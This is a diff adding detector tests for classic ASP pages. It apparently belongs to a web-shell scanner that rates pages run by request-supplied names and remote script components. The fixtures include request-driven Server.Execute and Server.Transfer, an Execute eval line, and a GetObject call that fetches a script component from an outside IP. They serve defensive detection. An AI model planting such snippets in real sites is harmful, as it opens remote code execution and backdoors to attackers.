@@ -650,3 +650,30 @@ Call Execute("Call BlogConfig.Write(""" & a & """, " & a & ")")
     );
   });
 });
+
+describe('classic ASP: pages and components run by name', () => {
+  it('leaves pages run by the name the request gives alone: applications route and redirect so', () => {
+    // Server.Execute(Request("p")) is a shell's form too, but an image redirect and a plugin
+    // loader of the tuning side's applications are written the same way (issue 27).
+    for (const page of [
+      '<% Server.Execute(Request("p")) %>',
+      `<% l = Request.QueryString("l")
+If oFs.FileExists(Server.MapPath("/") & l) Then Server.Transfer l %>`,
+      '<% Server.Execute("pages/" & Request.QueryString("view") & ".asp") %>',
+    ])
+      expect(judge('/inetpub/wwwroot/default.asp', page)?.severity ?? 'info').not.toMatch(
+        /high|critical/,
+      );
+  });
+
+  it('ranks a script component fetched from a URL critical, with or without the request', () => {
+    const page = '<% Set o = GetObject("script:http://203.0.113.7/x.sct") %>';
+    expect(judge('/inetpub/wwwroot/c.asp', page)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/script component it fetches from a URL/),
+    });
+    // A directory moniker is no script.
+    const ldap = '<% Set u = GetObject("LDAP://CN=" & Request("u") & ",DC=corp") %>';
+    expect(judge('/inetpub/wwwroot/u.asp', ldap)?.severity ?? 'info').not.toMatch(/critical/);
+  });
+});
